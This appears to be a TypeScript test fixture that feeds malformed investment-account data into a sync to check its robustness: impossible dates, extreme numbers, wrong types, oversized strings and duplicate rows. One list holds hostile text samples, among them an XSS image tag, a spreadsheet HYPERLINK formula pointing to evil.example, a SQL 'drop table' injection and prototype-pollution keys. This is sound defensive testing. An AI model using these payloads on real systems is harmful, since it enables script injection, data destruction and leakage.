import { longText, POISON, raw } from "./hostile-json.ts";
import { type Mood, spoiling } from "./item.ts";
import { PRICED_ON, type Row } from "./ledgers.ts";

/** The first row changed, and the others left as they are. */
const first = (rows: readonly Row[], change: Row): readonly Row[] =>
  rows.map((row, index) => (index === 0 ? { ...row, ...change } : row));

/** Copies of the first row, each with one change; of the last day, which every sync asks for. */
const beside = (rows: readonly Row[], changes: readonly Row[], idKey: string): readonly Row[] => [
  ...rows,
  ...changes.map((change, index) => ({
    ...rows[0],
    date: PRICED_ON,
    [idKey]: `odd-${index}`,
    ...change,
  })),
];

const DATES = [
  "2026-02-31",
  "0000-00-00",
  "2026-13-01",
  "yesterday",
  "",
  "99999-01-01",
  "1066-10-14",
];
const NUMBERS = ["1e308", "-1e308", "5e-324", "-0", "123456789012345678901234567890", "1e-400"];

const lotsOf = (dates: readonly string[]): Row => ({
  tax_lots: dates.map((date, index) => ({
    institution_lot_id: `lot-${index}`,
    original_purchase_datetime: date,
    quantity: 1,
    cost_basis: 10,
  })),
});

const TEXTS: readonly string[] = [
  `${POISON}\u0000`,
  `${POISON}\ud800`,
  `<img src=x onerror=alert(1)>${POISON}`,
  `=HYPERLINK("http://evil.example";"${POISON}")`,
  `${POISON}'; drop table connections; --`,
  `\u202e${POISON}\u0007\r\n`,
  "__proto__",
  "constructor",
];

/** Moods of somebody whose rows can't be. Some of them are right all the same: those must go on. */
export const rowMoods: readonly Mood[] = [
  spoiling("names days that do not exist", "rows", (books) => ({
    holdings: first(books.holdings, lotsOf(DATES)),
    transactions: beside(
      books.transactions,
      DATES.map((date) => ({ date })),
      "investment_transaction_id",
    ),
  })),
  spoiling("prices holdings on days that do not exist", "rows", (books) => ({
    holdings: first(books.holdings, { institution_price_as_of: "2026-02-31" }),
  })),
  spoiling("sends numbers at every edge", "rows", (books) => ({
    transactions: beside(
      books.transactions,
      NUMBERS.flatMap((text) => [
        { quantity: raw(text) },
        { amount: raw(text) },
        { price: raw(text) },
        { fees: raw(text) },
      ]),
      "investment_transaction_id",
    ),
  })),
  ...NUMBERS.map((text) =>
    spoiling(
      `holds a quantity and a price of ${text}`,
      Math.abs(Number(text)) > 1 ? "rows" : "perhaps",
      (books) => ({
        holdings: first(books.holdings, { quantity: raw(text), institution_price: raw(text) }),
      }),
    ),
  ),
  spoiling("has a value of 1e308", "rows", (books) => ({
    holdings: first(books.holdings, { institution_value: 1e308, cost_basis: -1e308 }),
  })),
  spoiling("has a balance of 1e308", "rows", (books) => ({
    accounts: first(books.accounts, { balances: { current: 1e308, iso_currency_code: "USD" } }),
  })),
  spoiling("sends numbers as texts", "rows", (books) => ({
    holdings: first(books.holdings, { quantity: "NaN", institution_price: "12" }),
  })),
  spoiling("sends lists where texts belong", "rows", (books) => ({
    securities: first(books.securities, { name: ["a"], ticker_symbol: { a: 1 } }),
  })),
  spoiling("leaves out what must be there", "rows", (books) => ({
    transactions: [{}, ...books.transactions],
  })),
  spoiling("has a symbol of 2 MB", "either", (books) => ({
    securities: first(books.securities, { ticker_symbol: longText(POISON, 2_000_000) }),
  })),
  spoiling("has an account name of 2 MB", "either", (books) => ({
    accounts: first(books.accounts, { name: longText(POISON, 2_000_000) }),
  })),
  ...TEXTS.map((text, index) =>
    spoiling(`sends the hostile text ${index + 1}`, "perhaps", (books) => ({
      accounts: first(books.accounts, { name: text, official_name: text }),
      securities: first(books.securities, { name: text, ticker_symbol: text }),
      transactions: first(books.transactions, { name: text, subtype: text }),
    })),
  ),
  spoiling("counts in a currency that there is not", "rows", (books) => ({
    holdings: first(books.holdings, { iso_currency_code: longText(POISON, 5_000) }),
  })),
  spoiling("names the same transaction twice", "perhaps", (books) => ({
    transactions: [...books.transactions, ...books.transactions],
  })),
  spoiling("names the same holding twice", "perhaps", (books) => ({
    holdings: [...books.holdings, ...books.holdings],
  })),
  spoiling("speaks of accounts and securities that it does not list", "rows", (books) => ({
    holdings: beside(books.holdings, [{ account_id: "nobody's" }], "security_id"),
    transactions: first(books.transactions, {
      date: PRICED_ON,
      security_id: "nothing",
      account_id: "nobody's",
    }),
  })),
];
